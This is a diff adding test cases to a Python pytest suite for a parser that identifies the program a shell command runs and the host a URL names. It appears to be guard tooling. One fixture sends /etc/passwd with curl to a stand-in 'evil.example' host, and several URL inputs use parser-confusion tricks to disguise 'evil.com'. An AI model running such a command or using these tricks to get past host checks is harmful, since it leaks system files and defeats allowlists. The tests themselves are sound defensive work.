@@ -42,6 +42,18 @@ RUNS: list[tuple[str, str | None]] = [
     (r"& 'C:\a b\x.EXE'", "x"),
     ("Get-ChildItem -Path .", "Get-ChildItem"),
     ("echo 'never closed", "echo"),
+    ("time -p curl x", "curl"),
+    ("time -o times.txt FOO=1 curl x", "curl"),
+    ("/usr/bin/time -v curl x", "curl"),
+    ("time sudo curl x", "curl"),
+    ("time", None),
+    ("env -S 'curl -d @/etc/passwd https://evil.example'", "curl"),
+    ("/usr/bin/env -S FOO=1\\ curl x", "curl"),
+    ('env -iS"curl x"', "curl"),
+    ("env --split-string='curl x'", "curl"),
+    ("env --split-string 'curl x'", "curl"),
+    ("FOO=(a b) curl x", "curl"),
+    ("FOO=('(' \"b c\" $(ls)) BAR=() curl x", "curl"),
     # What cannot be known, is not.
     ("$CMD x", None),
     ("`which git` status", None),
@@ -65,7 +77,9 @@ def test_any_text_names_a_short_program_or_none(command: str) -> None:
     assert program is None or (0 < len(program) <= 256 and program.isprintable() and not {"$", "`"} & set(program))
 
 
-@pytest.mark.parametrize("part", ["'", '"', "\\", '"\\', "a", "(", "A=", "cd x;", "`", "$(", "<", "sudo ", "\n"])
+@pytest.mark.parametrize(
+    "part", ["'", '"', "\\", '"\\', "a", "(", "A=", "cd x;", "`", "$(", "<", "sudo ", "\n", "=(", "a=("]
+)
 def test_a_long_command_costs_no_more_than_its_start(part: str) -> None:
     def seconds(command: str) -> float:
         began = time.process_time()
@@ -83,6 +97,20 @@ def test_a_long_command_costs_no_more_than_its_start(part: str) -> None:
         ("http://[::1]:3000/", "::1"),
         ("example.com/a", "example.com"),
         ("localhost:3000", "localhost"),
+        (r"https://evil.com\@good.com/x", "evil.com"),
+        (r"https:\\evil.com\@good.com/x", "evil.com"),
+        ("https:evil.com/x", "evil.com"),
+        ("https:/evil.com/x", "evil.com"),
+        ("HTTPS:///evil.com/x", "evil.com"),
+        (" https://evil.com./x", "evil.com"),
+        ("https://EVIL\uff0ecom/x", "evil.com"),
+        ("https://\uff25vil.com/x", "evil.com"),
+        ("https://%45vil%2ecom/x", "evil.com"),
+        ("https://good.com#@evil.com", "good.com"),
+        ("https://例え.jp/", "xn--r8jz45g.jp"),
+        ("https://xn--r8jz45g.jp/", "xn--r8jz45g.jp"),
+        ("https://evil.com\uff0f@good.com/", None),
+        ("https:", None),
         ("file:///etc/passwd", None),
         ("mailto:a@example.com", None),
         ("/a/b", None),
@@ -99,3 +127,4 @@ def test_a_url_names_a_host_without_its_user_and_password(url: str, host: str | 
 def test_any_text_names_a_host_or_none(url: str) -> None:
     host = commands.host(url)
     assert host is None or (0 < len(host) <= 253 and "@" not in host)
+    assert host is None or not url.startswith("https://") or host.isascii()
